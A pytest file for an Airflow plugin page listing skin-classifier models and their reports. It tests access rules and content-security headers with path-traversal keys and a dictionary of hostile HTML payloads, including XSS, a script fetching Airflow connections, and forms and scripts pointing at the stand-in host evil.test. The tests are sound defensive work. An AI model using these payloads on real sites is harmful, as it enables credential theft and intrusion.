"""The page "Models": what it says, who may see it, and what it hands out."""

from __future__ import annotations

import base64
import hashlib
import html
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import documents
import key_pairs
import pytest
import requests
import skin_models
from models_server import (
    DATASET,
    DOCS,
    DUPLICATES,
    REAL,
    REFUSED,
    SYNTHETIC,
    UNFIT,
    UNFIT_RUN,
    VALIDATION,
    AirflowUi,
    fill,
    judge,
    promote,
)
from released import moves, opened
from skin_models import data_link, report_link
from skin_web import readable

from skin_pipeline import journal
from skin_pipeline.contracts import RESULT, Notice, dump
from skin_pipeline.provenance import SigningKeys
from skin_pipeline.release import Rollback
from skin_pipeline.storage import FolderStore, Store

REPORTS = {"gate/4f1ac2/report.html", DOCS, "split/aa11/docs/checks.html"}
OTHERS = {
    "",
    "gate/4f1ac2/result.json",
    "gate/../weights/report.html",
    "gate/4f1ac2/report.html/../../../weights/private.html",
    "gate//report.html",
    "/gate/4f1ac2/report.html",
    "gate/4f1ac2/report.html\n",
    "models/skin-resnet50/champion.json",
    "validate/aa11/docs/../../../weights/private.html",
    "validate/aa11/docs/.hidden.html",
    "validate/aa11/docs/deeper/index.html",
    "ingest/aa11/docs/index.html",
    "validate/aa11/docs/a/../../result.json",
    "validate/aa11/result.json",
    "weights/private.html",
}


@pytest.mark.parametrize("key", sorted(REPORTS | OTHERS))
def test_only_reports_and_data_docs_are_handed_out(key: str) -> None:
    assert readable(key) is (key in REPORTS)


@pytest.mark.parametrize(
    ("base", "link"),
    [
        ("https://a.example.org", "https://a.example.org/plugin/models/skin-models/view/"),
        (
            "https://a.example.org/af/",
            "https://a.example.org/af/plugin/models/af/skin-models/view/",
        ),
        ("", ""),
    ],
)
def test_a_report_has_a_link_into_the_airflow_ui(base: str, link: str) -> None:
    key = "gate/4f1ac2/report.html"
    assert report_link(key, base) == (link and link + key)
    assert report_link("weights/private.html", base) == ""


@pytest.mark.parametrize(
    ("dag", "base", "link"),
    [
        (
            "skin_training",
            "https://a.org/af/",
            "https://a.org/af/dags/skin_training/runs/{}/plugin/",
        ),
        ("skin_training", "", ""),
        ("another", "https://a.org", ""),
    ],
)
def test_a_run_has_a_link_to_what_was_found_in_its_data(dag: str, base: str, link: str) -> None:
    found = data_link(dag, "manual__1+00:00", base)
    assert found == (link and link.format("manual__1%2B00%3A00") + "skin-data")


def test_a_model_is_synthetic_by_its_name_or_by_what_it_was_judged_on(store: FolderStore) -> None:
    at = "2026-06-15T03:12:40+00:00"
    for name, synthetic in (("a-model", True), ("b-model", False), ("c-synthetic", False)):
        run: dict[str, Any] = {
            "at": at,
            "accuracy": 0.8,
            "approved": True,
            "synthetic": synthetic,
        }
        verdict = judge(store, name, "run", **run)
        if name != "c-synthetic":
            promote(store, name, verdict, at=at, synthetic=synthetic)
    seen = {view.name: view.synthetic for view in skin_models.overview(store)}
    assert seen == {"b-model": False, "a-model": True, "c-synthetic": True}
    assert list(seen) == ["b-model", "a-model", "c-synthetic"]  # synthetic ones last


def test_the_table_has_the_latest_runs_and_the_drawing_goes_further_back(
    store: FolderStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(skin_models, "LAST_RUNS", 2)
    monkeypatch.setattr(skin_models, "LAST_DRAWN", 3)
    drawn: list[int] = []
    monkeypatch.setattr(skin_models, "_history", lambda judged, _: drawn.append(len(judged)) or "")
    fill(store)
    real = skin_models.overview(store)[0]
    assert [judged.judged_at[8:10] for judged in real.judged] == ["22", "15"]
    assert drawn[0] == 3


# --- what it says, without a server --------------------------------------------------------------


@pytest.fixture(scope="module")
def client() -> Iterator[Any]:
    """The page as a FastAPI app, for somebody who is logged in."""
    from airflow.api_fastapi.app import create_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
    from airflow.api_fastapi.core_api.security import get_user
    from fastapi.testclient import TestClient

    create_auth_manager()
    app = skin_models.build()
    somebody = SimpleAuthManagerUser(username="viewer", role="viewer")
    app.dependency_overrides[get_user] = lambda: somebody
    with TestClient(app, raise_server_exceptions=False) as visitor:
        yield visitor


@pytest.fixture
def empty(store: FolderStore, monkeypatch: pytest.MonkeyPatch) -> FolderStore:
    """The configured store, with nothing in it."""
    monkeypatch.setenv("SKIN_STORE", store.url)
    return store


def test_an_empty_store_tells_how_to_get_the_first_model(client: Any, empty: FolderStore) -> None:
    page = client.get("/")
    assert page.status_code == 200
    assert "No model yet" in page.text
    assert "skin_training" in page.text


@pytest.mark.parametrize("linked", ["gate/4f1a/report.html", "gate/4f1a", "gate"])
def test_a_link_in_the_store_shows_no_file_of_the_server(
    client: Any, empty: FolderStore, tmp_path: Path, linked: str
) -> None:
    key = "gate/4f1a/report.html"
    secrets = tmp_path / "home"
    (secrets / key).parent.mkdir(parents=True)
    (secrets / key).write_text("password: hunter2")
    (empty.root / linked).parent.mkdir(parents=True)
    (empty.root / linked).symlink_to(secrets / linked)

    answer = client.get(f"/report/{key}")
    assert "hunter2" not in answer.text
    assert answer.status_code == 503
    assert f"{linked} in the folder" in html.unescape(answer.text)


def test_judged_runs_are_drawn_over_time_as_soon_as_there_are_two(
    client: Any, empty: FolderStore
) -> None:
    fill(empty)
    real, refused, _ = client.get("/").text.split("<section")[1:]
    assert "champion</text>" in real[real.index("<svg") : real.index("</svg>")]
    assert len(re.findall(r'data-label="Run"', refused)) == 1
    assert "<svg" not in refused


def test_the_page_shows_champions_and_judged_runs(client: Any, empty: FolderStore) -> None:
    fill(empty)

    text = client.get("/").text

    assert re.findall(r'<h2 id="model-\d">(.*?)</h2>', text) == [REAL, REFUSED, SYNTHETIC]
    real, refused, synthetic = text.split("<section")[1:]
    assert 'since\n    <time datetime="2026-06-15T03:12:40+00:00">2026-06-15 03:12 UTC' in real
    assert "Why: approved by the gate. Moved by skin_training." in real
    assert "0.831</dd>" in real
    assert "0.781 \N{EN DASH} 0.881" in real
    assert re.findall(r">(approved|refused|champion)</span>", real) == [
        "refused",
        "approved",
        "champion",
        "refused",
        "approved",
    ]
    assert "accuracy: 0.743 [0.693, 0.793], required at least 0.750" in real
    assert "synthetic data" not in real + refused
    assert "synthetic data: not for patients" in synthetic
    assert "No champion yet" in refused
    assert "not defined" in refused  # its AUC


def test_each_judged_run_leads_to_its_data_docs(client: Any, empty: FolderStore) -> None:
    fill(empty)
    text = client.get("/").text
    assert text.count(f'href="view/{DOCS}"') == text.count('aria-label="Report of run') == 9
    assert "Data Docs of" in client.get(f"/report/{DOCS}").text


@pytest.fixture
def keys(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> SigningKeys:
    """A key pair that this installation signs and checks with."""
    made = replace(key_pairs.write(tmp_path, "ours"), state=str(tmp_path / "state"))
    monkeypatch.setenv("SKIN_PUBLIC_KEY", made.public)
    monkeypatch.setenv("SKIN_STATE", made.state)
    return made


def test_without_a_key_a_pointer_is_shown_as_not_verified(client: Any, empty: FolderStore) -> None:
    fill(empty)
    real = client.get("/").text.split("<section")[1]
    assert "Its pointer is not verified, as SKIN_PUBLIC_KEY is not set here." in real
    assert "Do not use" not in real
    assert re.findall(r'data-label="Signed"><span>(.*?)</span>', real) == ["no", "no"]


def test_with_a_key_the_page_says_which_champion_not_to_use_and_why(
    client: Any, empty: FolderStore, keys: SigningKeys
) -> None:
    fill(empty)
    before = empty.read(f"models/{REAL}/champion.json")
    assert f"models sign {REAL}" in client.get("/").text.split("Do not use this champion.")[1]
    now = opened(empty, name=REAL).champion
    assert now
    assert now.previous
    move = {"alias": "champion", "by": "ops", "reason": "looked at"}
    assert opened(empty, SigningKeys(private=keys.private), name=REAL).move(now.previous, **move)
    real = client.get("/").text.split("<section")[1]
    assert "Its pointer is signed with the trusted key." in real
    assert "Do not use" not in real
    assert re.findall(r'data-label="Signed"><span>(.*?)</span>', real) == ["yes", "no", "no"]
    tagged = empty.tagged(f"models/{REAL}/champion.json")
    assert tagged
    empty.swap(f"models/{REAL}/champion.json", before, tagged[1])
    real = client.get("/").text.split("<section")[1]
    assert "Do not use this champion." in real
    empty.remove(f"models/{REAL}/champion.json")
    assert "its pointer was taken away" in client.get("/").text.split("<section")[1]


def test_a_key_that_is_not_there_hides_no_model(
    client: Any, empty: FolderStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(empty)
    monkeypatch.setenv("SKIN_PUBLIC_KEY", "/nowhere.pem")
    real = client.get("/").text.split("<section")[1]
    assert "(SKIN_PUBLIC_KEY) is not there" in real
    assert "0.831</dd>" in real


def test_a_rollback_is_told_as_one(client: Any, empty: FolderStore) -> None:
    fill(empty)
    now, before = moves(empty, model=REAL)[:2]
    back = Rollback(before.version, now.version)
    assert opened(empty, name=REAL).carry_out(back, by="ops", reason="false alarms").rollback
    real = client.get("/").text.split("<section")[1]
    assert real.count("rolled back on purpose") == 1
    assert "false alarms" in real
    assert now.version in real


# --- the tab of a run ----------------------------------------------------------------------------

JUDGED_RUN = "scheduled__2026-06-15T03:00:00+00:00"


def test_the_tab_of_a_run_says_what_was_found_in_its_data(client: Any, empty: FolderStore) -> None:
    fill(empty)
    page = client.get(f"/run/skin_training/{JUDGED_RUN}")
    text = html.unescape(page.text)
    assert page.status_code == 200
    assert "Fit for training</h2>" in text
    assert "0 failed, 2 warnings" in text
    assert "560 benign, 584 malignant, 3 quarantined" in text
    assert f"{DUPLICATES}: 3 found" in text
    assert "border ring colour alone predicts the label: AUC 0.790 [0.760, 0.820]" in text
    assert "12 images added, 1 removed, 2 relabelled." in text
    links = re.findall(r'href="../../(view/.*?)"', page.text)
    assert [link.split("/")[1] for link in links] == ["validate", "split", "gate"]
    assert all(client.get(f"/{link}").status_code == 200 for link in links)


def test_what_was_found_and_not_used_is_listed_by_kind_the_first_twenty_of_each(
    client: Any, empty: FolderStore
) -> None:
    skipped = [notice("files_skipped", f"scan-{number}.heic") for number in range(27)]
    table = notice("table_not_used", "METADATA.<b>CSV</b>", count=3)
    found = documents.dataset(DATASET, notices=(*skipped, table))
    empty.put(f"{DATASET}/{RESULT}", dump(found))
    fill(empty)

    text = client.get(f"/run/skin_training/{JUDGED_RUN}").text

    assert "Found, not used</h3>" in text
    assert "0 failed, 4 warnings" in text  # two of the checks, and two kinds
    assert text.count("scan-") == 20
    assert "and 7 more, which the log of ingest names" in text
    assert "METADATA.&lt;b&gt;CSV&lt;/b&gt; (3): no column fits" in text


def test_a_set_of_another_origin_tells_what_it_did_not_use(client: Any, empty: FolderStore) -> None:
    other = documents.dataset("ingest/09", notices=(notice("table_not_used", "notes.xlsx"),))
    empty.put(f"ingest/09/{RESULT}", dump(other))
    checked = documents.validation(VALIDATION, DATASET, external={"clinic-b": "ingest/09"})
    empty.put(f"{VALIDATION}/{RESULT}", dump(checked))
    fill(empty)
    text = client.get(f"/run/skin_training/{JUDGED_RUN}").text
    assert "clinic-b: notes.xlsx: no column fits" in text


def test_data_that_was_used_whole_is_not_said_to_have_left_something(
    client: Any, empty: FolderStore
) -> None:
    fill(empty)
    assert "not used" not in client.get(f"/run/skin_training/{JUDGED_RUN}").text


def test_a_repeated_run_says_that_nothing_changed(client: Any, empty: FolderStore) -> None:
    fill(empty)
    page = f"/run/skin_training/{JUDGED_RUN}"
    assert "Nothing changed" not in client.get(page).text
    journal.note(empty, JUDGED_RUN, unchanged=True)
    text = client.get(page).text
    assert "Nothing changed</h2>" in text
    assert "which came to the same verdict on 2026-11-01 12:00 UTC" in text


def test_a_version_that_was_judged_again_stands_on_the_page_once(
    client: Any, empty: FolderStore
) -> None:
    """As a store has it in which a champion was judged against itself."""
    fill(empty)
    before = client.get("/").text
    approved = [item for item in opened(empty, name=REAL).judgements() if item.approved]
    for number, item in enumerate(approved):
        later = {"judged_at": f"2026-07-0{number + 1}T03:12:40+00:00", "run": "again"}
        again = item.model_copy(update=later)
        opened(empty, name=REAL).record(again, f"again-{number}")
    after = client.get("/").text
    assert "again</code>" not in after
    for part in ('data-label="Run"', ">champion</span>"):
        assert after.count(part) == before.count(part)
    assert after.count("<path") == before.count("<path")  # of the drawing, too


def notice(kind: str, subject: str, count: int = 1) -> Notice:
    """Something found beside the images."""
    return Notice(kind=kind, subject=subject, reason="no column fits", count=count)


def test_a_run_that_failed_in_validation_leads_to_its_data_docs(
    client: Any, empty: FolderStore
) -> None:
    fill(empty)
    text = client.get(f"/run/skin_training/{UNFIT_RUN}").text
    assert "Not fit for training</h2>" in text
    assert "duplicates have one label: 3 found" in text
    assert re.findall(r'href="../../(.*?)"', text) == [f"view/{UNFIT}/docs/index.html"]


def test_what_comes_from_the_data_is_escaped(client: Any, empty: FolderStore) -> None:
    fill(empty)
    text = client.get(f"/run/skin_training/{JUDGED_RUN}").text
    assert "<skin>" not in text
    assert "<b>" not in text
    assert "kaggle://owner/&lt;skin&gt;" in text


@pytest.mark.parametrize(
    ("dag", "run", "said"),
    [
        ("skin_training", "manual__new", "as soon as the task validate has checked"),
        ("another_dag", JUDGED_RUN, "Only runs of skin_training"),
    ],
)
def test_a_run_without_data_says_so(
    client: Any, empty: FolderStore, dag: str, run: str, said: str
) -> None:
    fill(empty)
    page = client.get(f"/run/{dag}/{run}")
    assert page.status_code == 200
    assert said in page.text


def test_a_run_that_has_not_been_split_shows_what_there_is(client: Any, empty: FolderStore) -> None:
    fill(empty)
    journal.note(empty, "manual__half", validation="validate/01")
    text = client.get("/run/skin_training/manual__half").text
    assert "Data Docs of the images" in text
    assert "Data Docs of the split" not in text
    assert "Report" not in text


def test_what_comes_from_a_run_is_escaped(client: Any, empty: FolderStore) -> None:
    fill(empty)
    text = client.get("/").text
    assert "<b>bold</b>" not in text
    assert html.escape("manual__<b>bold</b>") in text


def test_every_cell_of_a_table_has_its_column(client: Any, empty: FolderStore) -> None:
    fill(empty)
    text = client.get("/").text
    columns = re.findall(r'scope="col">(.*?)</th>', text.split("</thead>")[0])
    row = re.search(r"<tbody.*?(<tr.*?</tr>)", text, re.DOTALL)
    assert row is not None
    assert re.findall(r'data-label="(.*?)"', row[1]) == columns


def test_a_damaged_document_spoils_its_own_model_only(client: Any, empty: FolderStore) -> None:
    fill(empty)
    pointer = empty.root / f"models/{SYNTHETIC}/champion.json"
    pointer.write_text("{}")

    page = client.get("/")

    assert page.status_code == 200
    assert "This model cannot be shown." in page.text
    assert "0.831</dd>" in page.text  # the other champion


@pytest.mark.parametrize(
    ("variables", "said"),
    [
        ({"SKIN_STORE": "ftp://somewhere"}, "SKIN_STORE must be"),
        (
            {"SKIN_STORE": "s3://models", "SKIN_STORE_CONNECTION": "nowhere"},
            "SKIN_STORE_CONNECTION names the Airflow connection",
        ),
        ({"SKIN_RETRIES": "often"}, "retries"),
    ],
)
def test_a_store_that_cannot_be_read_is_explained(
    variables: dict[str, str], said: str, client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in variables.items():
        monkeypatch.setenv(name, value)

    page = client.get("/")

    assert page.status_code == 503
    assert "The model store cannot be read" in page.text
    assert said in html.unescape(page.text)
    assert "Traceback" not in page.text


def test_an_unexpected_error_shows_no_stack_trace(
    client: Any, empty: FolderStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(store: Store) -> list[Any]:
        raise RuntimeError("private detail")

    monkeypatch.setattr(skin_models, "overview", broken)
    page = client.get("/")
    assert page.status_code == 500
    assert "RuntimeError. The log of the API server says more." in page.text
    assert "private detail" not in page.text


def test_the_page_shows_s3_too(
    s3_store: Store, s3_server: Any, client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(s3_store)
    monkeypatch.setenv("SKIN_STORE", s3_store.url)
    monkeypatch.setenv("SKIN_S3_ENDPOINT", s3_server.endpoint)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", s3_server.access_key)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", s3_server.secret)
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")

    text = client.get("/").text

    assert "0.831</dd>" in text
    (report, *_) = re.findall(r'href="view/(gate/\w+/report.html)"', text)
    assert client.get(f"/report/{report}").text == s3_store.read(report).decode()


def test_loading_the_plugin_imports_nothing_heavy() -> None:
    plugins = str(Path(skin_models.__file__).parent)
    code = (
        f"import sys; sys.path.insert(0, {plugins!r})\n"
        "import skin_connections, skin_models, skin_notifier\n"
        "heavy = {'fastapi', 'boto3', 'botocore', 'numpy', 'pandas'}\n"
        "ours = {name for name in sys.modules if name.startswith('skin_pipeline.')}\n"
        "print(sorted(heavy & set(sys.modules) | ours - {'skin_pipeline.foreign'}))"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert run.stdout.strip().endswith("[]")


# What a report could hold if somebody else can write into the store, and what forbids it there.
FORBIDDEN = {
    "<script>fetch('/api/v2/connections')</script>": ("default-src 'none'", "sandbox"),
    "<img src=x onerror=alert(1)>": ("default-src 'none'", "sandbox"),
    "<svg><script href='//evil.test/a.js'/></svg>": ("default-src 'none'", "sandbox"),
    "<iframe src='/skin-models/'></iframe>": ("default-src 'none'",),
    "<object data='//evil.test'></object><embed src='//evil.test'>": ("default-src 'none'",),
    "<form action='//evil.test'><input name=password></form>": ("form-action 'none'", "sandbox"),
    "<base href='//evil.test'>": ("base-uri 'none'",),
    "<img src='//evil.test/seen.png'>": ("img-src data:",),
    "<style>@import '//evil.test'; a { background: url(//evil.test) }</style>": (
        "default-src 'none'",
        "img-src data:",
    ),
    "<meta http-equiv=refresh content='0;url=//evil.test'>": ("sandbox",),
    "<link rel=dns-prefetch href='//evil.test'>": (),
}
ALLOWED = {"allow-same-origin", "allow-downloads"}  # in the sandbox; neither runs or leads anything


@pytest.mark.parametrize("hostile", FORBIDDEN)
def test_a_report_that_a_stranger_wrote_can_do_nothing_in_the_reader_s_name(
    client: Any, empty: FolderStore, hostile: str
) -> None:
    empty.put("gate/4f1ac2/report.html", hostile.encode())
    answer = client.get("/report/gate/4f1ac2/report.html")
    assert answer.text == hostile
    policy = [rule.split() for rule in answer.headers["Content-Security-Policy"].split(";")]
    rules = {name: set(values) for name, *values in policy}
    assert len(rules) == len(policy)
    for rule in FORBIDDEN[hostile]:
        name, *values = rule.split()
        assert rules[name] == (set(values) if values else ALLOWED)
    assert set(rules) == {
        *("default-src", "style-src", "img-src", "frame-ancestors"),
        *("base-uri", "form-action", "sandbox"),
    }
    assert rules["style-src"] == {"'unsafe-inline'"}
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    assert answer.headers["X-DNS-Prefetch-Control"] == "off"


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/run/skin_training/manual__new",
        "/view/gate/4f1ac2/report.html",
        "/report/gate/4f1ac2/report.html",
    ],
)
def test_no_page_is_framed_by_strangers_kept_by_others_or_taken_for_something_else(
    client: Any, empty: FolderStore, path: str
) -> None:
    empty.put("gate/4f1ac2/report.html", b"<h1>Report</h1>")
    headers = client.get(path).headers
    policy = headers["Content-Security-Policy"].split("; ")
    form = "'none'" if path.startswith("/report/") else "'self'"
    expected = {"default-src 'none'", "frame-ancestors 'self'", f"form-action {form}"}
    assert expected < set(policy)
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["Cache-Control"] == "private, no-cache"


# --- behind Airflow's own login ------------------------------------------------------------------


@pytest.fixture
def visitor(airflow_ui: AirflowUi) -> requests.Session:
    """Somebody who has logged in to the running Airflow."""
    session = requests.Session()
    session.cookies.set("_token", airflow_ui.token)
    return session


@pytest.mark.airflow
@pytest.mark.parametrize(
    "path",
    ["", "report/gate/x/report.html", "view/gate/x/report.html", "run/skin_training/manual__1"],
)
def test_nothing_is_shown_without_a_login(path: str, airflow_ui: AirflowUi) -> None:
    answer = requests.get(f"{airflow_ui.url}/skin-models/{path}", timeout=300)
    assert answer.status_code == 401
    assert REAL not in answer.text


@pytest.mark.airflow
@pytest.mark.parametrize("path", ["docs", "redoc", "openapi.json"])
def test_the_page_publishes_no_description_of_itself(path: str, airflow_ui: AirflowUi) -> None:
    assert requests.get(f"{airflow_ui.url}/skin-models/{path}", timeout=300).status_code == 404


@pytest.mark.airflow
def test_with_a_login_the_page_and_its_reports_are_shown(
    airflow_ui: AirflowUi, visitor: requests.Session
) -> None:
    home = f"{airflow_ui.url}/skin-models/"
    page = visitor.get(home, timeout=300)
    assert page.status_code == 200
    assert f"{REAL}</h2>" in page.text

    (key, *_) = re.findall(r'href="view/(gate/\w+/report.html)"', page.text)
    frame = visitor.get(f"{home}view/{key}", timeout=300)
    (source,) = re.findall(r'<iframe src="([^"]+)"', frame.text)
    report = visitor.get(f"{home}view/{key.rpartition('/')[0]}/{source}", timeout=300)

    assert report.url == f"{home}report/{key}"
    assert report.content == airflow_ui.store.read(key)
    assert report.headers["X-Content-Type-Options"] == "nosniff"
    policy = report.headers["Content-Security-Policy"].split("; ")
    assert {"default-src 'none'", "style-src 'unsafe-inline'", "img-src data:"} < set(policy)
    assert not any(rule.startswith(("script-src", "connect-src")) for rule in policy)
    assert visitor.get(f"{home}report/{DOCS}", timeout=300).content == airflow_ui.store.read(DOCS)


@pytest.mark.airflow
def test_the_page_runs_one_script_and_no_other(
    airflow_ui: AirflowUi, visitor: requests.Session
) -> None:
    page = visitor.get(f"{airflow_ui.url}/skin-models/", timeout=300)
    (script,) = re.findall(r"<script>(.*?)</script>", page.text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    policy = page.headers["Content-Security-Policy"].split("; ")
    assert {"default-src 'none'", f"script-src 'sha256-{digest}'"} < set(policy)
    assert not re.findall(r"https?://|\bsrc=", page.text)


@pytest.mark.airflow
@pytest.mark.parametrize(
    "key",
    [
        "weights/private.html",
        "gate/..%2f..%2fweights%2fprivate.html",
        "gate/%2e%2e/weights/private.html",
        "validate/01/docs/..%2f..%2f..%2fweights%2fprivate.html",
        f"models%2f{REAL}%2fchampion.json",
        "gate/none/report.html",
    ],
)
@pytest.mark.parametrize("route", ["report", "view"])
def test_nothing_else_of_the_store_can_be_read(
    route: str, key: str, airflow_ui: AirflowUi, visitor: requests.Session
) -> None:
    request = requests.Request("GET", f"{airflow_ui.url}/skin-models/", cookies=visitor.cookies)
    prepared = request.prepare()
    prepared.url = f"{airflow_ui.url}/skin-models/{route}/{key}"  # as it is, dots and all
    answer = visitor.send(prepared, timeout=300)

    assert "not for the page" not in answer.text
    frame_of_a_missing_report = route == "view" and key == "gate/none/report.html"
    assert answer.status_code == (200 if frame_of_a_missing_report else 404)


@pytest.mark.airflow
def test_airflow_lists_the_plugin_without_import_errors(airflow_ui: AirflowUi) -> None:
    login = {"Authorization": f"Bearer {airflow_ui.token}"}
    api = f"{airflow_ui.url}/api/v2/plugins"
    errors = requests.get(f"{api}/importErrors", headers=login, timeout=300).json()
    assert errors["import_errors"] == []
    plugins = requests.get(api, headers=login, timeout=300).json()["plugins"]
    views = [view for plugin in plugins for view in plugin["external_views"]]
    seen = {(view["name"], view["destination"]) for view in views}
    assert seen == {("Models", "nav"), ("Data", "dag_run")}
